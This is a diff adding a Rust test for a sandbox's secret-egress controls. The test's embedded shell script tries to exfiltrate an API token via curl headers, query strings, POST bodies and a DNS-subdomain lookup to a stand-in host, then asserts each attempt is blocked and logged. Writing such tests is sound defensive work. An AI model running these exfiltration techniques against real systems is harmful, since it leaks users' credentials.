@@ -255,3 +255,105 @@ fn an_upstream_that_does_not_verify_is_refused_not_downgraded() {
     assert!(conns.contains("never downgraded"), "{conns}");
     assert!(up.requests().is_empty(), "{:?}", up.requests());
 }
+
+#[test]
+fn secrets_reach_only_their_host_and_never_the_sandbox_or_the_records() {
+    let Some(lab) = Lab::new() else { return };
+    let (ca, cert, key) = test_ca(&lab, &["good.test", "other.test"]);
+    let up = Upstream::start(&lab, "secrets", Some((&cert, &key)));
+    let p = up.port;
+    let value = crate::escape::unique("TOKENVALUE");
+    let script = format!(
+        "echo env=$API_TOKEN\n\
+         env > /tmp/env.txt; echo envdump=$(grep -c '{marker}' /tmp/env.txt)\n\
+         echo good=$(curl -s -H \"Authorization: Bearer $API_TOKEN\" https://good.test:{p}/ok.txt)\n\
+         echo other=$(curl -s -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer $API_TOKEN\" https://other.test:{p}/ok.txt)\n\
+         echo query=$(curl -s -o /dev/null -w '%{{http_code}}' \"https://other.test:{p}/ok.txt?t=$API_TOKEN\")\n\
+         echo body=$(curl -s -o /dev/null -w '%{{http_code}}' --data \"k=$API_TOKEN\" https://other.test:{p}/upload)\n\
+         echo dns=$(python3 -c 'import socket,sys\ntry:\n socket.getaddrinfo(sys.argv[1] + \".good.test\", 443); print(\"resolved\")\nexcept OSError: print(\"refused\")' $API_TOKEN)\n",
+        marker = "TOKENVALUE",
+    );
+    let egress = format!(
+        "      - domain: good.test\n        ports: [{p}]\n      - domain: other.test\n        ports: [{p}]\n      - cidr: 127.0.0.1/32\n        ports: [{p}]\n  secrets:\n    API_TOKEN:\n      from: env:SKSB_TEST_API_TOKEN\n      hosts: [good.test]\n      header: Authorization"
+    );
+    let dir = skill(&lab, "l7-secrets", &egress, &script);
+    let hosts = lab.path("hosts");
+    std::fs::write(&hosts, "127.0.0.1 good.test other.test\n").unwrap();
+    let trace = lab.path("secrets-trace.json");
+    let out = lab
+        .cmd()
+        .env("SKILLSANDBOX_EGRESS_HOSTS", &hosts)
+        .env("SKILLSANDBOX_EGRESS_ROOTS", &ca)
+        .env("SKSB_TEST_API_TOKEN", &value)
+        .args(["run", "--json", "--trace-output"])
+        .arg(&trace)
+        .arg(&dir)
+        .output()
+        .unwrap();
+    let o = Outcome::from(out);
+    assert_eq!(o.exit_code, 0, "{}", o.dump());
+    let placeholder = line(&o, "env").to_string();
+    assert!(
+        placeholder.starts_with("sksb") && placeholder.len() == 36,
+        "{}",
+        o.dump()
+    );
+    assert_eq!(line(&o, "envdump"), "0", "{}", o.dump());
+    // The allowed host got the real value; the sandbox got the echo back as the
+    // placeholder.
+    let seen = up.requests();
+    assert_eq!(seen.len(), 1, "{seen:?}");
+    assert!(seen[0].ends_with(&format!("Bearer {value}")), "{seen:?}");
+    assert!(
+        line(&o, "good").ends_with(&format!("auth=Bearer {placeholder}")),
+        "{}",
+        o.dump()
+    );
+    for k in ["other", "query", "body"] {
+        assert_eq!(line(&o, k), "403", "{k}: {}", o.dump());
+    }
+    assert_eq!(line(&o, "dns"), "refused", "{}", o.dump());
+    let v = o.violations().join("\n");
+    assert_eq!(v.matches("secret_exfiltration: HTTP").count(), 3, "{v}");
+    assert!(v.contains("carries the placeholder of secret API_TOKEN (in the headers), which may only go to good.test"), "{v}");
+    assert!(v.contains("(in the path or query)"), "{v}");
+    assert!(v.contains("(in the body)"), "{v}");
+    assert!(
+        v.contains("secret_exfiltration: DNS A query carries the placeholder of secret API_TOKEN"),
+        "{v}"
+    );
+    // The value is nowhere: not in any output, the trace or the audit log.
+    let trace_text = std::fs::read_to_string(&trace).unwrap();
+    assert!(
+        trace_text.contains("secret API_TOKEN swapped in for good.test"),
+        "{trace_text}"
+    );
+    let audit = std::fs::read_to_string(lab.path("state/audit.jsonl")).unwrap();
+    for (what, text) in [
+        ("output", o.everything()),
+        ("trace", trace_text),
+        ("audit", audit),
+    ] {
+        assert!(
+            !text.contains(&value),
+            "the secret value leaked into the {what}"
+        );
+    }
+
+    // A missing source refuses the run, naming the variable, never a value.
+    let o = Outcome::from(
+        lab.cmd()
+            .env("SKILLSANDBOX_EGRESS_HOSTS", &hosts)
+            .args(["run", "--json"])
+            .arg(&dir)
+            .output()
+            .unwrap(),
+    );
+    assert_eq!(o.exit_code, 125, "{}", o.dump());
+    assert!(
+        o.everything()
+            .contains("secret API_TOKEN: env:SKSB_TEST_API_TOKEN is not set"),
+        "{}",
+        o.dump()
+    );
+}
